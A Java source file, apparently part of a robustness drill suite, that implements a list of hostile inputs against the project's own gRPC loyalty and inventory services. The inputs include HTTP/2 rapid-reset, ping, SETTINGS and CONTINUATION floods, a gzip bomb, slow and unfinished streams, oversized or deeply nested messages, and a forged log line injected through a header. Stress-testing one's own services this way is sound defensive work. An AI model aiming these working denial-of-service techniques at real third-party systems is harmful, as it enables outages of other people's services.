package io.crossdock.drill.hostile;

import static java.nio.charset.StandardCharsets.US_ASCII;

import com.google.protobuf.CodedOutputStream;
import io.crossdock.drill.hostile.Attack.Target;
import io.crossdock.drill.hostile.LyingConnector.Lie;
import io.crossdock.inventory.v1.InventoryServiceGrpc;
import io.crossdock.loyalty.v1.LoyaltyServiceGrpc;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.UUID;
import java.util.zip.GZIPOutputStream;

/** Every attack, in the order in which they are made. */
final class Attacks {

  private static final String BALANCE =
      "/" + LoyaltyServiceGrpc.getGetBalanceMethod().getFullMethodName();
  private static final String STOCK =
      InventoryServiceGrpc.getGetAvailabilityMethod().getFullMethodName();
  private static final String STOCK_OF_MANY =
      InventoryServiceGrpc.getBatchGetAvailabilityMethod().getFullMethodName();
  private static final String RESERVE = InventoryServiceGrpc.getReserveMethod().getFullMethodName();
  private static final byte[] MEMBER =
      RawConnection.message(RawCalls.bytes(out -> out.writeString(1, "M-1001")));
  private static final byte[] ITEM =
      RawCalls.bytes(out -> {
        out.writeString(1, "SKU-1");
        out.writeString(2, "EU-001");
      });
  private static final int WINDOW = 65_535;
  private static final int MANY_ITEMS = 400_000;
  private static final int MANY_LINES = 10_000;
  private static final int MANY_DIGITS = 3_900_000;
  private static final long DEADLINE_MILLIS = 2_000;
  private static final long LIE_DEADLINE_MILLIS = 300;

  private Attacks() {}

  static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    all.add(new Attack("many-empty-items", Attacks::manyEmptyItems));
    all.add(new Attack("many-lines", Attacks::manyLines));
    all.add(new Attack("many-digits", target -> quantity(target, "9".repeat(MANY_DIGITS))));
    all.add(new Attack("huge-exponent", target -> quantity(target, "1e2147483648")));
    all.add(new Attack("deep-message", Attacks::deepMessage));
    all.add(new Attack("gzip-bomb", Attacks::gzipBomb));
    all.add(new Attack("zero-window", Attacks::zeroWindow));
    all.add(new Attack("unfinished-bodies", Attacks::unfinishedBodies));
    all.add(new Attack("byte-by-byte", Attacks::byteByByte));
    all.add(new Attack("rapid-reset", Attacks::rapidReset));
    all.add(new Attack("ping-flood", Attacks::pingFlood));
    all.add(new Attack("settings-flood", Attacks::settingsFlood));
    all.add(new Attack("endless-headers", Attacks::endlessHeaders));
    all.add(new Attack("bad-binary-header", target -> header(target, "trap-bin", "!!!")));
    all.add(new Attack("bad-timeout", target -> header(target, "grpc-timeout", "forever")));
    all.add(
        new Attack("forged-log-line", target -> header(target, "content-length", "5\n2026 ERROR")));
    all.add(new Attack("empty-path", Attacks::emptyPath));
    all.add(new Attack("garbage-frames", Attacks::garbage));
    for (Lie lie : Lie.values()) {
      String name = "lie-" + lie.name().toLowerCase(Locale.ROOT).replace('_', '-');
      all.add(new Attack(name, target -> lie(target, lie)));
    }
    return all;
  }

  private static void manyEmptyItems(Target target) {
    byte[] request =
        RawCalls.bytes(out -> {
          out.writeString(1, "EU-001");
          for (int i = 0; i < MANY_ITEMS; i++) {
            out.writeString(2, "");
          }
        });
    RawCalls.call(target.channel(), STOCK_OF_MANY, request, DEADLINE_MILLIS);
  }

  private static void manyLines(Target target) {
    byte[] quantity = RawCalls.bytes(out -> writeQuantity(out, "1"));
    reserve(target, quantity, MANY_LINES);
  }

  private static void quantity(Target target, String value) {
    reserve(target, RawCalls.bytes(out -> writeQuantity(out, value)), 1);
  }

  private static void reserve(Target target, byte[] quantity, int lines) {
    byte[] context = RawCalls.bytes(out -> out.writeString(1, UUID.randomUUID().toString()));
    byte[] request =
        RawCalls.bytes(out -> {
          out.writeByteArray(1, context);
          out.writeString(2, "EU-001");
          for (int i = 0; i < lines; i++) {
            String line = "L" + i;
            out.writeByteArray(
                3,
                RawCalls.bytes(each -> {
                  each.writeString(1, line);
                  each.writeString(2, "SKU-" + line);
                  each.writeByteArray(3, quantity);
                }));
          }
          out.writeString(4, "O-1");
        });
    RawCalls.call(target.channel(), RESERVE, request, DEADLINE_MILLIS);
  }

  private static void writeQuantity(CodedOutputStream out, String value) throws IOException {
    out.writeByteArray(1, RawCalls.bytes(decimal -> decimal.writeString(1, value)));
    out.writeString(2, "C62");
  }

  private static void deepMessage(Target target) {
    RawCalls.call(target.channel(), STOCK, RawCalls.nested(1_000_000), DEADLINE_MILLIS);
  }

  private static void gzipBomb(Target target) throws IOException, InterruptedException {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
      byte[] zeros = new byte[1 << 20];
      for (int i = 0; i < 64; i++) {
        gzip.write(zeros);
      }
    }
    byte[] message = RawConnection.message(packed.toByteArray());
    message[0] = 1;
    try (RawConnection hub = RawConnection.open(target.address(), WINDOW)) {
      byte[] headers = RawConnection.call(BALANCE, "grpc-encoding", "gzip");
      hub.frame(RawConnection.HEADERS, RawConnection.END_HEADERS, 1, headers);
      send(hub, 1, message);
      hub.flush();
      Thread.sleep(200);
    }
  }

  /** Cached answers that nobody takes. */
  private static void zeroWindow(Target target) throws IOException, InterruptedException {
    try (RawConnection hub = RawConnection.open(target.address(), 0)) {
      byte[] headers = RawConnection.call(BALANCE);
      for (int stream = 1; stream < 4_000; stream += 2) {
        hub.frame(RawConnection.HEADERS, RawConnection.END_HEADERS, stream, headers);
        hub.frame(RawConnection.DATA, RawConnection.END_STREAM, stream, MEMBER);
      }
      hub.flush();
      Thread.sleep(500);
    }
  }

  /** Requests that begin with a large message and never come to its end. */
  private static void unfinishedBodies(Target target) throws IOException, InterruptedException {
    byte[] begun = Arrays.copyOf(RawConnection.message(new byte[4 << 20]), 16_000);
    try (RawConnection hub = RawConnection.open(target.address(), WINDOW)) {
      byte[] headers = RawConnection.call(BALANCE);
      for (int stream = 1; stream < 200; stream += 2) {
        hub.frame(RawConnection.HEADERS, RawConnection.END_HEADERS, stream, headers);
        hub.frame(RawConnection.DATA, 0, stream, begun);
      }
      hub.flush();
      Thread.sleep(500);
    }
  }

  private static void byteByByte(Target target) throws IOException, InterruptedException {
    try (RawConnection hub = RawConnection.open(target.address(), WINDOW)) {
      hub.frame(RawConnection.HEADERS, RawConnection.END_HEADERS, 1, RawConnection.call(BALANCE));
      for (byte each : MEMBER) {
        hub.frame(RawConnection.DATA, 0, 1, new byte[] {each});
        hub.flush();
        Thread.sleep(50);
      }
    }
  }

  private static void rapidReset(Target target) throws IOException {
    try (RawConnection hub = RawConnection.open(target.address(), WINDOW)) {
      byte[] headers = RawConnection.call(BALANCE);
      for (int stream = 1; stream < 20_000; stream += 2) {
        hub.frame(RawConnection.HEADERS, RawConnection.END_HEADERS, stream, headers);
        hub.reset(stream);
      }
      hub.flush();
    }
  }

  private static void pingFlood(Target target) throws IOException {
    try (RawConnection hub = RawConnection.open(target.address(), WINDOW)) {
      for (int i = 0; i < 20_000; i++) {
        hub.frame(RawConnection.PING, 0, 0, new byte[8]);
      }
      hub.flush();
    }
  }

  private static void settingsFlood(Target target) throws IOException {
    try (RawConnection hub = RawConnection.open(target.address(), WINDOW)) {
      for (int i = 0; i < 20_000; i++) {
        hub.settings(RawConnection.INITIAL_WINDOW, WINDOW - i % 2);
      }
      hub.flush();
    }
  }

  /** Headers that go on and on in further frames. */
  private static void endlessHeaders(Target target) throws IOException {
    try (RawConnection hub = RawConnection.open(target.address(), WINDOW)) {
      hub.frame(RawConnection.HEADERS, 0, 1, RawConnection.call(BALANCE));
      byte[] more = RawConnection.pairs("x", "y".repeat(16_000));
      for (int i = 0; i < 500; i++) {
        hub.frame(RawConnection.CONTINUATION, 0, 1, more);
      }
      hub.flush();
    }
  }

  private static void header(Target target, String name, String value) throws IOException {
    try (RawConnection hub = RawConnection.open(target.address(), WINDOW)) {
      byte[] headers = RawConnection.call(BALANCE, name, value);
      for (int stream = 1; stream < 400; stream += 2) {
        hub.frame(RawConnection.HEADERS, RawConnection.END_HEADERS, stream, headers);
        hub.frame(RawConnection.DATA, RawConnection.END_STREAM, stream, MEMBER);
      }
      hub.flush();
    }
  }

  private static void emptyPath(Target target) throws IOException, InterruptedException {
    try (RawConnection hub = RawConnection.open(target.address(), WINDOW)) {
      int flags = RawConnection.END_HEADERS | RawConnection.END_STREAM;
      for (int stream = 1; stream < 200; stream += 2) {
        hub.frame(RawConnection.HEADERS, flags, stream, RawConnection.call(""));
      }
      hub.flush();
      Thread.sleep(200);
    }
  }

  private static void garbage(Target target) throws IOException {
    try (RawConnection hub = RawConnection.open(target.address(), WINDOW)) {
      for (int type = 0; type < 256; type++) {
        hub.frame(type, type, 1, "garbage, garbage, garbage".getBytes(US_ASCII));
      }
      hub.flush();
    }
  }

  private static void lie(Target target, Lie lie) {
    target.liar().answer(lie);
    for (int i = 0; i < 10; i++) {
      RawCalls.call(target.channel(), STOCK, ITEM, LIE_DEADLINE_MILLIS);
    }
  }

  // In frames of the size that every peer takes.
  private static void send(RawConnection hub, int stream, byte[] message) throws IOException {
    for (int from = 0; from < message.length; from += 16_384) {
      int to = Math.min(message.length, from + 16_384);
      int flags = to == message.length ? RawConnection.END_STREAM : 0;
      hub.frame(RawConnection.DATA, flags, stream, Arrays.copyOfRange(message, from, to));
    }
  }
}
